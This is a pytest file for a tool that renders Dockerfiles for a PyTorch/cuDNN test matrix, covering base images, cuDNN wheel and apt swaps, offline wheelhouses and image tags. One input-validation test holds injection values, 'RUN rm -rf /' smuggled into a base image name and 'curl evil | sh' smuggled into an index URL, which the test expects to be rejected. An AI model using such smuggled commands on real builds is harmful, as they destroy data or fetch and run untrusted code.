"""Rendering cell images: pure functions of the cell and the build options (no engine needed)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from harness.backends.docker import dockerfile
from harness.backends.packages import PackageSource
from harness.errors import InputError
from harness.plan.model import Cell, CudnnSource
from tests.conftest import cli_in_process, run_cli

CUDA = dict(torch="2.11.0+cu130", base_image="auto", python="3.12")


def cell(kind: str, value: str | None = None, **axes: str) -> Cell:
    return Cell(cudnn=CudnnSource(kind, value), **{**CUDA, **axes})  # type: ignore[arg-type]


def final_stage(text: str) -> str:
    return text.split("FROM python AS cell")[1]


def test_bundled_cell_uses_the_nvidia_base_of_its_cuda_variant_and_pytorchs_index():
    rendered = dockerfile.render(cell("bundled"), dockerfile.BuildOptions())
    text = rendered.dockerfile
    assert "FROM nvidia/cuda:13.0.1-base-ubuntu24.04 AS python" in text
    assert "--index-url https://download.pytorch.org/whl/cu130" in text and '"torch==2.11.0+cu130"' in text
    assert "COPY --from=torch /opt/venv /opt/venv" in final_stage(text)
    assert "USER 10001:10001" in final_stage(text)
    assert "cudnn" not in final_stage(text).lower().replace("cudnn-harness", "")
    assert rendered.expect_cudnn.to_json() == {"source": "bundled"}


def test_wheel_cell_replaces_the_pinned_wheel_in_its_own_layers():
    text = dockerfile.render(cell("wheel", "9.19.0.56"), dockerfile.BuildOptions()).dockerfile
    assert '"nvidia-cudnn-cu13==9.19.0.56"' in text
    final = final_stage(text)
    # torch's layer first (shared with the bundled cell), then the cuDNN swap
    assert final.index("COPY --from=torch /opt/venv") < final.index(
        "RUN rm -rf /opt/venv/lib/python3.12/site-packages/nvidia/cudnn"
    )
    assert "COPY --from=cudnn /opt/venv/lib/python3.12/site-packages/nvidia/cudnn" in final


def test_system_cell_installs_the_apt_package_and_removes_the_wheels_copy():
    rendered = dockerfile.render(cell("system", "9.14.0.64"), dockerfile.BuildOptions())
    text = rendered.dockerfile
    assert '"libcudnn9-cuda-13=9.14.0.64-1"' in text
    final = final_stage(text)
    assert "rm -rf /opt/venv/lib/python3.12/site-packages/nvidia/cudnn" in final
    assert "COPY --from=cudnn /opt/cudnn/lib/ /opt/cudnn/lib/" in final and "ldconfig" in final
    assert rendered.expect_cudnn.to_json() == {
        "source": "system",
        "lib_dir": "/opt/cudnn/lib",
        "version": "9.14.0.64",
    }


def test_cells_sharing_a_torch_build_render_identical_torch_stages():
    def python_and_torch_stages(text: str) -> str:
        body = text.split("\n", 2)[2]  # after the two header lines that name the cell
        return re.split(r"# ---- (?:stage cudnn|final stage)", body)[0]

    stages = [
        python_and_torch_stages(dockerfile.render(cell(k, v), dockerfile.BuildOptions()).dockerfile)
        for k, v in (("bundled", None), ("wheel", "9.19.0.56"), ("system", "9.14.0.64"), ("disabled", None))
    ]
    assert len(set(stages)) == 1


def test_build_only_inputs_never_reach_the_final_stage(tmp_path: Path):
    (tmp_path / "wheelhouse").mkdir()
    (tmp_path / "wheelhouse" / "torch-2.11.0+cu130-cp312-cp312-linux_x86_64.whl").write_bytes(b"w")
    (tmp_path / "ca.pem").write_text("-----BEGIN CERTIFICATE-----\n")
    for kind, value in (("bundled", None), ("system", "9.14.0.64")):
        rendered = dockerfile.render(
            cell(kind, value),
            dockerfile.BuildOptions(
                PackageSource(wheelhouse=tmp_path / "wheelhouse"), ca_bundle=tmp_path / "ca.pem"
            ),
        )
        final = final_stage(rendered.dockerfile)
        assert "harness-build" not in final and "ca-bundle" not in final and "PIP_CERT" not in final
        assert "--no-index --find-links /tmp/harness-build/wheelhouse" in rendered.dockerfile
        assert set(rendered.context) >= {
            "ca-bundle.pem",
            "wheelhouse/torch-2.11.0+cu130-cp312-cp312-linux_x86_64.whl",
            "harness/__init__.py",
            "harness/suite/__main__.py",
        }
        assert not any(
            name.startswith("harness/") and "suite" not in name and name != "harness/__init__.py"
            for name in rendered.context
        )  # the orchestrator never goes into an image


def test_tag_follows_content(tmp_path: Path):
    ca = tmp_path / "ca.pem"
    ca.write_text("one")
    first = dockerfile.render(cell("bundled"), dockerfile.BuildOptions(ca_bundle=ca)).tag
    assert dockerfile.render(cell("bundled"), dockerfile.BuildOptions(ca_bundle=ca)).tag == first
    ca.write_text("two")
    assert dockerfile.render(cell("bundled"), dockerfile.BuildOptions(ca_bundle=ca)).tag != first
    assert dockerfile.render(cell("bundled", python="3.11"), dockerfile.BuildOptions()).tag != first


def test_unsafe_values_cannot_reach_a_dockerfile():
    with pytest.raises(InputError):
        dockerfile.render(cell("bundled", base_image="ubuntu\nRUN rm -rf /"), dockerfile.BuildOptions())
    with pytest.raises(InputError, match="plain http"):
        dockerfile.render(
            cell("bundled"),
            dockerfile.BuildOptions(PackageSource(index_url="https://x.org/simple' && curl evil | sh")),
        )


def test_images_dry_run_prints_every_dockerfile(write_matrix):
    path = write_matrix("""
schema_version: 1
name: dry
backend: docker
axes:
  torch: ["2.11.0+cu130"]
  cudnn: [bundled, {wheel: "9.19.0.56"}, {system: "9.14.0.64"}]
  python: ["3.12"]
baseline: {cudnn: bundled}
""")
    done = run_cli("images", "--dry-run", "--matrix", str(path))
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("# ===== cudnn-harness-cell:") == 3
    assert done.stdout.count("FROM nvidia/cuda:13.0.1-base-ubuntu24.04 AS python") == 3


def test_docker_matrices_are_checked_for_what_images_can_realize(write_matrix):
    path = write_matrix("""
schema_version: 1
name: bad
backend: docker
axes:
  torch: ["2.13.0+cpu", "2.11.0+cu130"]
  cudnn: [bundled, {system: auto}]
  python: ["3.12"]
baseline: {cudnn: bundled, torch: "2.11.0+cu130"}
""")
    done = cli_in_process("plan", "--matrix", str(path))
    assert done.returncode == 2
    assert "a CPU build of torch loads no cuDNN" in done.stderr
    assert "system needs its full version" in done.stderr


def test_an_index_token_stays_in_the_build_stage():
    url = "https://build-bot:s3cr3t-token@pypi.corp.example/simple"
    text = dockerfile.render(
        cell("bundled"), dockerfile.BuildOptions(PackageSource(index_url=url))
    ).dockerfile
    assert url in text.split("FROM python AS cell")[0]
    assert "s3cr3t-token" not in final_stage(text)


def test_a_base_pinned_by_digest_is_used_as_written(write_matrix):
    digest = "nvidia/cuda:13.0.1-base-ubuntu24.04@sha256:" + "ab" * 32
    rendered = dockerfile.render(cell("bundled", base_image=digest), dockerfile.BuildOptions())
    assert f"FROM {digest} AS python" in rendered.dockerfile
    assert (
        dockerfile.labels(
            rendered,
            __import__("harness.plan.model").plan.model.Plan(
                "p", "docker", (rendered.cell,), rendered.cell.id, (), {}, 5.0
            ),
        )["org.opencontainers.image.base.name"]
        == digest
    )


# ---- a plain version: PyPI's default build (torch==2.11.0 is the cu130 build there, with no local label)

HOST_BASE = "gpu-host-root:ubuntu24.04"
PYPI_TORCH = "torch-2.11.0-cp312-cp312-manylinux_2_28_x86_64.whl"


def plain(kind: str = "bundled", value: str | None = None, base: str = HOST_BASE) -> Cell:
    return cell(kind, value, torch="2.11.0", base_image=base)


def test_a_plain_version_installs_pypis_build_from_the_wheelhouse_offline(tmp_path: Path):
    (tmp_path / PYPI_TORCH).write_bytes(b"PK")
    for kind in ("bundled", "disabled"):
        rendered = dockerfile.render(plain(kind), dockerfile.BuildOptions(PackageSource(wheelhouse=tmp_path)))
        text = rendered.dockerfile
        assert f"FROM {HOST_BASE} AS python" in text
        assert '--no-index --find-links /tmp/harness-build/wheelhouse "torch==2.11.0"\n' in text
        assert "download.pytorch.org" not in text and "index-url" not in text
        assert rendered.context[f"wheelhouse/{PYPI_TORCH}"] == tmp_path / PYPI_TORCH
        assert rendered.expect_cudnn.to_json() == {"source": kind}


def test_a_plain_version_without_a_wheelhouse_comes_from_pypi_or_the_index_given():
    text = dockerfile.render(plain(), dockerfile.BuildOptions()).dockerfile
    assert '--index-url https://pypi.org/simple "torch==2.11.0"' in text
    assert "download.pytorch.org" not in text and "extra-index-url" not in text
    mirror = "https://pypi.corp.example/simple"
    text = dockerfile.render(plain(), dockerfile.BuildOptions(PackageSource(index_url=mirror))).dockerfile
    assert f'--index-url {mirror} "torch==2.11.0"' in text and "pypi.org" not in text


def test_a_plain_version_has_no_auto_base_image():
    with pytest.raises(InputError) as caught:
        dockerfile.render(plain(base="auto"), dockerfile.BuildOptions())
    (problem,) = caught.value.problems
    assert problem.field == "base_image" and "name one as base_image" in problem.message


def test_a_plain_version_takes_no_cudnn_wheel_or_apt_package_but_the_bases_own():
    for kind, value in (("wheel", "9.19.0.56"), ("system", "9.14.0.64")):
        with pytest.raises(InputError) as caught:
            dockerfile.render(plain(kind, value), dockerfile.BuildOptions())
        (problem,) = caught.value.problems
        assert problem.field == "axes.cudnn" and "name the variant, e.g. '2.11.0+cu130'" in problem.message
    final = final_stage(dockerfile.render(plain("system", "image"), dockerfile.BuildOptions()).dockerfile)
    assert "rm -rf /opt/venv/lib/python3.12/site-packages/nvidia/cudnn " in final
    assert "site-packages/nvidia_cudnn_cu*-*.dist-info; ldconfig" in final


PLAIN_MATRIX = """
schema_version: 1
name: pypi-torch
backend: docker
axes:
  torch: ["2.11.0"]
  cudnn: CUDNN
  base_image: [BASE]
  python: ["3.12"]
baseline: {cudnn: bundled}
"""


def test_the_docker_rules_take_a_plain_version_on_a_named_base(write_matrix, tmp_path: Path):
    wheels = tmp_path / "wheelhouse"
    wheels.mkdir()
    (wheels / PYPI_TORCH).write_bytes(b"PK")
    path = write_matrix(PLAIN_MATRIX.replace("CUDNN", "[bundled]").replace("BASE", HOST_BASE))
    assert run_cli("plan", "--matrix", str(path)).returncode == 0
    done = run_cli("images", "--dry-run", "--matrix", str(path), "--wheelhouse", str(wheels))
    assert done.returncode == 0, done.stderr
    assert '--no-index --find-links /tmp/harness-build/wheelhouse "torch==2.11.0"' in done.stdout


def test_the_docker_rules_refuse_auto_and_a_cudnn_release_for_a_plain_version(write_matrix):
    path = write_matrix(
        PLAIN_MATRIX.replace("CUDNN", '[bundled, {wheel: "9.19.0.56"}, {system: "9.14.0.64"}]').replace(
            "BASE", "auto"
        )
    )
    done = cli_in_process("plan", "--matrix", str(path))
    assert done.returncode == 2 and "Traceback" not in done.stderr
    lines = [line for line in done.stderr.splitlines() if line.startswith("error: ")]
    base = [line for line in lines if ": axes.base_image: " in line]
    assert len(base) == 3 and all("name a base_image" in line and "'2.11.0+cu130'" in line for line in base)
    cudnn = [line for line in lines if ": axes.cudnn: " in line]
    assert len(cudnn) == 2 and all("name the variant, e.g. '2.11.0+cu130'" in line for line in cudnn), lines


def test_a_built_torch_has_torchvision_and_nvml_beside_it_and_a_writable_tmp():
    # issue 40 item 5 on the GPU: a built torch in an imported root filesystem ran its ResNet-50 rows only
    # once the image held torchvision (as local environments do) and a /tmp the suite's user can write
    cell = Cell("2.11.0", CudnnSource("bundled"), "gpu-host-root:ubuntu24.04", "3.12")
    text = dockerfile.render(cell, dockerfile.BuildOptions()).dockerfile
    loop = next(line for line in text.splitlines() if line.startswith("RUN for companion in "))
    assert loop.split(";")[0].split(" in ")[1].split() == ["torchvision", "nvidia-ml-py"]
    assert '"torch==2.11.0" "$companion"' in text  # torch named again: no companion's pin can move it
    assert (
        "mkdir -p /tmp && chmod 1777 /tmp" in text.split("AS torch")[0]
    )  # in the stage the cell image is FROM
